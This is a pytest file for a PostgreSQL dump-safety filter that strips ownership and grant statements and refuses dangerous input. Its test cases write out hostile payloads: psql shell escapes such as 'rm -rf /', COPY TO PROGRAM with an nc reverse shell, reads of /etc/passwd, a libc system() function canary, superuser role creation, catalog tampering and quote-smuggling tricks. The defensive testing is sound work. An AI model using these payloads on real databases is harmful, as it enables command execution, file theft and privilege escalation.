"""The PostgreSQL statement filter: psql meta-commands, COPY blocks, dollar quotes, drops."""

from __future__ import annotations

from collections.abc import AsyncIterator

import pytest

from envrestore.pipelines.errors import UnsafeInput
from envrestore.pipelines.sqlsafety import FilterReport, filter_dump

HEADER = b"""--
-- PostgreSQL database dump
--

\\restrict 8TrkwXSfMsbC0lhVVs4T6cDg2uE

SET statement_timeout = 0;
SET client_encoding = 'UTF8';
SET standard_conforming_strings = on;
SELECT pg_catalog.set_config('search_path', '', false);
"""  # 10 lines

REAL_DUMP = (
    HEADER
    + rb"""SET default_tablespace = '';
CREATE EXTENSION IF NOT EXISTS pg_trgm WITH SCHEMA public;
CREATE SCHEMA extra;
ALTER SCHEMA extra OWNER TO postgres;
CREATE FUNCTION extra.f(x integer) RETURNS integer
    LANGUAGE plpgsql
    AS $_$
BEGIN
  -- it's a comment with a quote '
  RAISE NOTICE 'x = %; \! not a meta', x;
  PERFORM pg_read_file('/etc/passwd'); -- inside a body: not run by the restore
  RETURN $1 + 1;
END
$_$;
CREATE TABLE extra.t (
    id integer NOT NULL,
    s text,
    b bytea
);
COMMENT ON TABLE extra.t IS 'it''s a table; \connect other';
COPY extra.t (id, s, b) FROM stdin;
1	back\\slash \\! rm -rf / \n newline	\\x00ff
2	\\\\.	\N
3	GRANT; COPY x FROM PROGRAM 'id'; \connect other	\N
\.
SELECT pg_catalog.setval('extra.t_id_seq', 3, true);
ALTER TABLE ONLY extra.t
    ADD CONSTRAINT t_pkey PRIMARY KEY (id);
GRANT SELECT ON TABLE extra.t TO reader;
REVOKE ALL ON SCHEMA public FROM PUBLIC;
ALTER DEFAULT PRIVILEGES FOR ROLE postgres IN SCHEMA extra GRANT SELECT ON TABLES TO reader;
INSERT INTO extra.t VALUES (4, E'it\'s \\! E-string; GRANT', NULL), (5, $$dollar \connect x$$, NULL);

\unrestrict 8TrkwXSfMsbC0lhVVs4T6cDg2uE
"""
)


async def chunked(data: bytes, size: int) -> AsyncIterator[bytes]:
    for offset in range(0, len(data), size):
        yield data[offset : offset + size]


async def run(data: bytes, size: int = 1 << 20, **kw) -> tuple[bytes, FilterReport]:
    report = FilterReport()
    out = [
        c async for c in filter_dump(chunked(data, size), engine="postgresql", report=report, **kw)
    ]
    return b"".join(out), report


async def refused(data: bytes) -> UnsafeInput:
    with pytest.raises(UnsafeInput) as info:
        await run(data)
    return info.value


def dropped(dump: bytes, *starts: bytes) -> bytes:
    return b"".join(
        b"\n" if line.startswith(starts) else line for line in dump.splitlines(keepends=True)
    )


async def test_real_dump_passes_with_owner_and_privileges_dropped():
    out, report = await run(REAL_DUMP)
    assert out == dropped(
        REAL_DUMP,
        b"SET statement_timeout",
        b"ALTER SCHEMA extra OWNER",
        b"GRANT",
        b"REVOKE",
        b"ALTER DEF",
    )
    assert report.normalised == [
        "dropped SET statement_timeout = 0 (the restore sets the import's time limits)",
        "dropped ALTER … OWNER TO statements (they belong to the target server)",
        "dropped GRANT/REVOKE statements (they belong to the target server)",
    ]
    assert report.copy_rows == 3
    assert report.lines == REAL_DUMP.count(b"\n")


@pytest.mark.parametrize("size", [1, 7, 1 << 20])
async def test_chunk_boundaries_do_not_change_the_output(size):
    expected, _ = await run(REAL_DUMP)
    out, report = await run(REAL_DUMP, size)
    assert out == expected
    assert report.copy_rows == 3


@pytest.mark.parametrize(
    ("sql", "problem", "shown"),
    [
        (b"\\! rm -rf /\n", "psql_meta", "\\! rm -rf /"),
        (b"\\c other\n", "psql_meta", "\\c"),
        (b"\\connect other\n", "psql_meta", "\\connect"),
        (b"\\copy t from '/etc/passwd'\n", "psql_meta", "\\copy"),
        (b"\\i /etc/passwd\n", "psql_meta", "\\i"),
        (b"\\ir x.sql\n", "psql_meta", "\\ir"),
        (b"\\o /tmp/x\n", "psql_meta", "\\o"),
        (b"SELECT 1 \\g |sh\n", "psql_meta", "\\g |sh"),
        (b"\\setenv PAGER x\n", "psql_meta", "\\setenv"),
        (b"SELECT 'x' \\gexec\n", "psql_meta", "\\gexec"),
        (b"CREATE TABLE t (\n  a int\n) \\! id\n", "psql_meta", "\\! id"),
        (b"COPY t FROM PROGRAM 'id';\n", "copy_program", "PROGRAM"),
        (b"COPY t TO PROGRAM 'nc -e sh x';\n", "copy_program", "PROGRAM"),
        (b"COPY t FROM '/etc/passwd';\n", "copy_file", "COPY"),
        (b"COPY t TO '/tmp/x';\n", "copy_file", "COPY"),
        (b"COPY t FROM stdin WITH (FORMAT binary);\n", "copy_file", "COPY"),
        (b"ALTER SYSTEM SET archive_command = 'id';\n", "alter_system", "ALTER SYSTEM"),
        (b"CREATE DATABASE x;\n", "database", "CREATE DATABASE"),
        (b"DROP DATABASE postgres;\n", "database", "DROP DATABASE"),
        (b"CREATE ROLE evil SUPERUSER;\n", "role", "CREATE ROLE"),
        (b"ALTER USER postgres PASSWORD 'x';\n", "role", "ALTER USER"),
        (b"SET ROLE postgres;\n", "role", "SET ROLE"),
        (b"SET SESSION AUTHORIZATION postgres;\n", "role", "SESSION AUTHORIZATION"),
        (b"INSERT INTO t SELECT pg_read_file('/etc/passwd');\n", "server_files", "pg_read_file"),
        (b"SELECT lo_import('/etc/passwd');\n", "server_files", "lo_import"),
        (b"SELECT lo_export(1, '/tmp/x');\n", "server_files", "lo_export"),
        (b"INSERT INTO t SELECT * FROM pg_ls_dir('/');\n", "server_files", "pg_ls_dir"),
        (b"INSERT INTO t SELECT pg_read_binary_file('/x');\n", "server_files", "pg_read_binary"),
        (
            b"INSERT INTO t SELECT * FROM dblink('host=x', 'select 1') AS r(a int);\n",
            "dblink",
            "dblink",
        ),
        (b"DO $$ BEGIN EXECUTE 'COPY t FROM PROG' || 'RAM ''id'''; END $$;\n", "do", "DO"),
        (b"SELECT evil();\n", "select", "SELECT evil"),
        (b"SET standard_conforming_strings = off;\n", "quoting_mode", "standard_conforming"),
        (b"SET client_encoding = 'SJIS';\n", "quoting_mode", "SJIS"),
        (b"SELECT set_config('role', 'postgres', false);\n", "quoting_mode", "set_config"),
        (b"CREATE EXTENSION file_fdw;\n", "extension", "file_fdw"),
        (b"CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw;\n", "server_objects", "SERVER"),
        (b"GRANT ALL ON t TO x; SELECT 1;\n", "mixed_line", "SELECT"),
    ],
)
async def test_refusals_name_the_line_and_the_problem(sql, problem, shown):
    error = await refused(HEADER + sql)
    assert error.data["problem"] == problem
    assert error.data["line"] in range(11, 11 + sql.count(b"\n"))
    assert str(error).startswith(f"line {error.data['line']}: ")
    assert "is not allowed in a dump" in str(error)
    assert shown in str(error) or shown in error.data["statement"]


async def test_connect_as_pg_dump_dash_c_emits_it_is_refused():
    error = await refused(HEADER + b"CREATE DATABASE site;\n\\connect site\n")
    assert error.data["line"] == 11


async def test_meta_command_after_a_copy_block_is_caught_on_its_line():
    dump = b"COPY t (a) FROM stdin;\n\\! data, not a command\n\\.\n\\! id\n"
    error = await refused(dump)
    assert (error.data["line"], error.data["problem"]) == (4, "psql_meta")


async def test_copy_data_lines_pass_untouched_whatever_they_hold():
    row = b"%d\t\\\\! rm -rf / \\\\connect x; GRANT ALL\t'\"$$\n"
    data = b"".join(row % i for i in range(1000))
    dump = b"COPY t (a, b, c) FROM stdin;\n" + data + b"\\.\r\nSELECT pg_catalog.setval('s', 1);\n"
    out, report = await run(dump, 333)
    assert out == dump
    assert report.copy_rows == 1000


async def test_dollar_quoted_bodies_span_lines_and_hide_nothing_after_them():
    dump = (
        b"CREATE FUNCTION f() RETURNS int AS $fn$\nSELECT 1; \\! id\n$fn$ LANGUAGE sql;\n"
        b"GRANT x TO y;\n\\! id\n"
    )
    error = await refused(dump)
    assert error.data["line"] == 5


async def test_nested_comments_and_e_strings_are_read_as_psql_reads_them():
    dump = (
        b"/* outer /* inner */ still \\! comment */ SELECT pg_catalog.setval('s', 1);\n"
        b"INSERT INTO t VALUES (E'a\\'b \\\\! x');\n"
        b"INSERT INTO t VALUES ('a\\\\', '^\\d+$', E'it''s \\' too');\n"
    )
    out, _ = await run(dump)
    assert out == dump


async def test_standard_string_ending_in_backslash_is_refused():
    # psql reads 'a\' as it ends here only while standard_conforming_strings is on,
    # and a function the dump calls may turn it off unseen (see below).
    error = await refused(b"INSERT INTO t VALUES ('a\\'); \\! id\n")
    assert error.data["problem"] == "ambiguous_quote"
    error = await refused(b"INSERT INTO t VALUES ('a\\');\n")
    assert error.data["problem"] == "ambiguous_quote"


PROGRAM = b"COPY (SELECT 1) TO PROGRAM 'id';"


@pytest.mark.parametrize(
    ("sql", "problem"),
    [
        # psql: E'…' holds `a'' ` ('' and \' are quotes) and COPY … PROGRAM runs.
        (
            b"CREATE TABLE t (c text DEFAULT E'a''\\' ' ); " + PROGRAM + b" -- ' );\n",
            "copy_program",
        ),
        # psql 15 reads `1` then a dollar quote; the COPY is outside it.
        (b"COMMENT ON TABLE t IS 1$$ x $$; " + PROGRAM + b" $$;\n", "ambiguous_quote"),
        (b"COMMENT ON TABLE t IS $1$$ x $$; " + PROGRAM + b" $$;\n", "ambiguous_quote"),
        # psql before 15 reads `1` then E'…' (15 reads `1e` then '…').
        (b"COMMENT ON TABLE t IS 1e'\\' ' ; " + PROGRAM + b" -- '\n;\n", "ambiguous_quote"),
        # The server joins E'a' and the next line's '…' into one E'…': the COPY runs.
        (b"COMMENT ON TABLE t IS E'a'\n'\\' ' ; " + PROGRAM + b" -- '\n;\n", "ambiguous_quote"),
        (
            b"COMMENT ON TABLE t IS E'a' -- x\n\n '\\' ' ; " + PROGRAM + b" -- '\n;\n",
            "ambiguous_quote",
        ),
        # psql 15 reads `1.e` then '…' (before 15: `1.` then E'…'): the \! ran.
        (b"COMMENT ON TABLE t IS 1.e'\\' \\! id\n';\n", "ambiguous_quote"),
        # A carriage return ends a -- comment for psql (the \! after it ran), not for
        # the parallel import's splitter: refused.
        (b"COMMENT ON TABLE t IS 'x'; -- c\r\\! id\n", "ambiguous_quote"),
        (b"COMMENT ON TABLE t IS E'x' -- c\r\\! id\n;\n", "ambiguous_quote"),
        (b"COMMENT ON TABLE t IS 'x' -- c\r; COPY t TO PROGRAM 'id';\n", "ambiguous_quote"),
        # psql reads a line only up to a NUL: 'a is still open there, the \! ran.
        (b"COMMENT ON TABLE t IS 'a\x00'; SELECT 1;\n' ; \\! id\n';\n", "nul_byte"),
        # A quoted name hid these settings from the quoting-mode rule.
        (b'SET "standard_conforming_strings" = off;\n', "quoting_mode"),
        (b"SET \"client_encoding\" TO 'SJIS';\n", "quoting_mode"),
        # A called function turns standard_conforming_strings off unseen: psql then
        # reads 'a\' ' as one literal and runs the COPY.
        (
            b"INSERT INTO t VALUES (pg_catalog.\"set_config\"('standard_conforming_strings',"
            b" 'off', false));\nCOMMENT ON TABLE t IS 'a\\' ' ; " + PROGRAM + b" -- '\n;\n",
            "ambiguous_quote",
        ),
        # In SJIS (a client_encoding a function may set) 0x95 0x5C is one character.
        (b"COMMENT ON TABLE t IS E'\x95\\' ; " + PROGRAM + b" -- '\n;\n", "ambiguous_quote"),
        (b"COMMENT ON TABLE t IS '\x95\\\\' ; " + PROGRAM + b" -- '\n;\n", "ambiguous_quote"),
    ],
)
async def test_literals_psql_or_the_server_could_end_elsewhere_are_refused(sql, problem):
    error = await refused(HEADER + sql)
    assert error.data["problem"] == problem


async def test_names_and_numbers_next_to_quotes_still_pass():
    dump = (
        HEADER
        + b"CREATE TABLE a$b$ (c$$ int DEFAULT 1, name text DEFAULT 'x');\n"
        + b"COMMENT ON TABLE a$b$ IS $$it's$$;\n"
        + b"INSERT INTO a$b$ VALUES (1, 'caf\xc3\xa9'), (2, E'caf\xc3\xa9 \\n');\n"
    )
    out, _ = await run(dump)
    assert out == dropped(dump, b"SET statement_timeout")


async def test_multi_line_grant_is_dropped_whole():
    dump = b"GRANT SELECT\n  ON TABLE t\n  TO reader;\nCREATE TABLE u (a int);\n"
    out, _ = await run(dump)
    assert out == b"\n\n\nCREATE TABLE u (a int);\n"


# ---------------------------------------------------------------- routines, catalogs, settings

CANARY = (
    b"CREATE FUNCTION sys(cstring) RETURNS int AS 'libc.so.6','system' LANGUAGE C STRICT;\n"
    b"CREATE TABLE pwn (id int, x int DEFAULT sys('id > /tmp/pwned'));\n"
    b"COPY pwn (id) FROM stdin;\n1\n\\.\n"
)


async def test_the_libc_system_canary_is_refused_at_its_function():
    error = await refused(HEADER + CANARY)
    assert error.data["line"] == 11
    assert error.data["problem"] == "routine_language"
    assert "sys" in str(error)


@pytest.mark.parametrize(
    "sql",
    [
        b"CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'x.so', 'f';\n",
        b"CREATE OR REPLACE FUNCTION public.f() RETURNS int AS '$libdir/x', 'f' LANGUAGE 'c';\n",
        b"CREATE FUNCTION f() RETURNS int AS 'x' LANGUAGE \"c\";\n",
        b"CREATE FUNCTION f() RETURNS int\n    LANGUAGE\n    internal\n    AS 'int4in';\n",
        b"CREATE FUNCTION f() RETURNS int AS $$ import os $$ LANGUAGE plpython3u;\n",
        b"CREATE FUNCTION f() RETURNS int LANGUAGE plperlu AS $x$\n system('id');\n$x$;\n",
        b"CREATE FUNCTION f() RETURNS int LANGUAGE pltclu AS 'exec id';\n",
        b"CREATE FUNCTION f() RETURNS int LANGUAGE plperl AS 'return 1';\n",
        b"CREATE PROCEDURE p() LANGUAGE plsh AS '#!/bin/sh';\n",
        b"CREATE\nFUNCTION f() RETURNS int AS 'libc.so.6',\n 'system' LANGUAGE sql;\n",
        b"CREATE FUNCTION f() RETURNS \"return\" AS 'libc.so.6', 'system' LANGUAGE c;\n",
        b"CREATE FUNCTION f() RETURNS int /* LANGUAGE sql */ LANGUAGE -- x\n c AS 'a', 'b';\n",
    ],
)
async def test_functions_in_other_languages_than_sql_and_plpgsql_are_refused(sql):
    error = await refused(HEADER + sql)
    assert error.data["problem"] == "routine_language"
    assert "only plpgsql and sql are allowed" in str(error) or "server library" in str(error)


async def test_unterminated_last_function_is_checked_at_eof():
    error = await refused(b"CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'a', 'b'")
    assert error.data["problem"] == "routine_language"


@pytest.mark.parametrize(
    "sql",
    [
        b"CREATE LANGUAGE plpython3u;\n",
        b"CREATE TRUSTED PROCEDURAL LANGUAGE plperlu;\n",
        b"CREATE OR REPLACE\n  LANGUAGE plsh;\n",
        b"CREATE TRANSFORM FOR hstore LANGUAGE plpython3u (FROM SQL WITH FUNCTION f(internal));\n",
    ],
)
async def test_languages_and_transforms_are_refused(sql):
    error = await refused(HEADER + sql)
    assert error.data["problem"] == "server_objects"


async def test_sql_and_plpgsql_functions_pass_in_every_layout():
    dump = (
        b"CREATE FUNCTION public.f(language text) RETURNS TABLE(language text)\n"
        b"    LANGUAGE sql IMMUTABLE\n    RETURN (x + 1);\n"
        b"CREATE FUNCTION public.g() RETURNS trigger\n    LANGUAGE plpgsql\n"
        b"    SET search_path TO 'pg_catalog', 'public'\n    AS $$begin\n"
        b"  -- LANGUAGE c AS 'libc.so.6', 'system'\n  return new;\nend$$;\n"
        b"CREATE PROCEDURE public.p()\n    LANGUAGE sql\n    BEGIN ATOMIC\n"
        b" INSERT INTO public.t (language)\n   VALUES ('x'::text);\nEND;\n"
        b"CREATE OR REPLACE FUNCTION public.h() RETURNS int AS 'select 1' LANGUAGE \"plpgsql\";\n"
        b"CREATE TABLE public.t (\n    id integer NOT NULL,\n    language text\n);\n"
        b"COPY public.t (id, language) FROM stdin;\n1\ten\n\\.\n"
    )
    out, _ = await run(HEADER + dump)
    assert out.endswith(dump)


@pytest.mark.parametrize(
    "sql",
    [
        b"UPDATE pg_catalog.pg_authid SET rolsuper = true;\n",
        b'UPDATE "pg_catalog"."pg_authid" SET rolsuper = true;\n',
        b"UPDATE\n  pg_catalog\n  .pg_authid SET rolsuper = true;\n",
        b"INSERT INTO pg_catalog.pg_proc VALUES (1);\n",
        b"DELETE FROM information_schema.sql_features;\n",
        b"CREATE FUNCTION pg_catalog.lower(text) RETURNS text LANGUAGE sql AS 'select 1';\n",
        b"ALTER TABLE pg_catalog.pg_class ADD COLUMN x int;\n",
        b"CREATE TABLE PG_CATALOG.x (a int);\n",
        b"CREATE INDEX i ON pg_catalog.pg_class (relname);\n",
        b"CREATE TRIGGER t BEFORE INSERT ON pg_catalog.pg_class FOR EACH ROW EXECUTE FUNCTION f();\n",
        b"COPY pg_catalog.pg_authid (rolname) FROM stdin;\n",
        b"ALTER TABLE public.t SET SCHEMA pg_catalog;\n",
        b"CREATE SCHEMA IF NOT EXISTS information_schema;\n",
        b"CREATE EXTENSION hstore WITH SCHEMA pg_catalog;\n",
    ],
)
async def test_writes_to_system_schemas_are_refused(sql):
    error = await refused(HEADER + sql)
    assert error.data["problem"] == "system_catalog"


@pytest.mark.parametrize(
    ("sql", "problem"),
    [
        (b"SET search_path = pg_catalog;\n", "search_path"),
        (b"SET search_path TO pg_catalog, public;\n", "search_path"),
        (b"SET search_path = 'pg_catalog';\n", "search_path"),
        (b"SELECT pg_catalog.set_config('search_path', 'pg_catalog', false);\n", "search_path"),
        (b"SELECT pg_catalog.set_config('search_path', '\"pg_catalog\"', false);\n", "search_path"),
        (b"SET statement_timeout = 5;\n", "timeout"),
        (b"SET statement_timeout = 0; SELECT pg_sleep(1);\n", "timeout"),
        (b"SET LOCAL statement_timeout TO 0;\n", "timeout"),
        (b'SET "statement_timeout" = 0;\n', "timeout"),
        (b"RESET statement_timeout;\n", "timeout"),
        (b"SELECT set_config('statement_timeout', '0', false);\n", "quoting_mode"),
        (
            b"CREATE FUNCTION public.f() RETURNS int LANGUAGE sql\n"
            b"  SET statement_timeout TO '0' AS 'select 1';\n",
            "timeout",
        ),
        (b'ALTER FUNCTION public.f() SET "statement_timeout" = 0;\n', "timeout"),
        (b"RESET ROLE;\n", "reset"),
        (b"RESET ALL;\n", "reset"),
        (b"DISCARD ALL;\n", "reset"),
        (b"SET\n ROLE postgres;\n", "role"),
        (b'SET "role" = postgres;\n', "role"),
        (b"SET session_authorization = postgres;\n", "role"),
        (b"ALTER ROLE x SET search_path = pg_catalog;\n", "role"),
        (b"ALTER\n  DATABASE x SET work_mem = '1TB';\n", "database"),
        (b"CREATE\n ROLE evil SUPERUSER;\n", "role"),
        (b"ALTER\n SYSTEM SET archive_command = 'id';\n", "alter_system"),
        (b"SET work_mem = '100GB';\n", "setting"),
        (b"SET allow_system_table_mods = on;\n", "setting"),
        (b'CREATE TABLE U&"pg\\005fcatalog".x (a int);\n', "unicode_identifier"),
    ],
)
async def test_settings_roles_and_timeouts_are_refused(sql, problem):
    error = await refused(HEADER + sql)
    assert error.data["problem"] == problem


async def test_pg_dump_preambles_and_catalog_references_pass():
    dump = (
        b"SET lock_timeout = 0;\nSET idle_in_transaction_session_timeout = 0;\n"
        b"SET transaction_timeout = 0;\nSET check_function_bodies = false;\n"
        b"SET xmloption = content;\nSET client_min_messages = warning;\nSET row_security = off;\n"
        b"SET default_table_access_method = heap;\nSET default_with_oids = false;\n"
        b"SET search_path = public, pg_catalog;\n"
        b"CREATE EXTENSION IF NOT EXISTS plpgsql WITH SCHEMA pg_catalog;\n"
        b"CREATE TABLE public.t (\n    id pg_catalog.int4 NOT NULL,\n"
        b'    s text COLLATE pg_catalog."default"\n);\n'
        b"CREATE VIEW public.v AS\n SELECT t.id\n   FROM public.t\n"
        b"  WHERE (t.id OPERATOR(pg_catalog.=) 1);\n"
        b"CREATE INDEX t_s ON public.t USING btree (s pg_catalog.text_pattern_ops);\n"
        b"SELECT pg_catalog.setval('public.t_id_seq', 1, false);\n"
        b"SELECT pg_catalog.set_config('search_path', 'public, pg_catalog', false);\n"
        b"SET TIME ZONE 'UTC';\nSET SESSION CHARACTERISTICS AS TRANSACTION ISOLATION LEVEL "
        b"READ COMMITTED;\nSET CONSTRAINTS ALL DEFERRED;\n"
    )
    out, report = await run(HEADER + dump)
    assert out.endswith(dump)
    assert report.normalised == [
        "dropped SET statement_timeout = 0 (the restore sets the import's time limits)"
    ]


async def test_only_the_leading_statement_timeout_zero_line_is_dropped_and_lines_keep_numbers():
    out, _ = await run(HEADER)
    assert out == HEADER.replace(b"SET statement_timeout = 0;\n", b"\n")
    assert out.count(b"\n") == HEADER.count(b"\n")
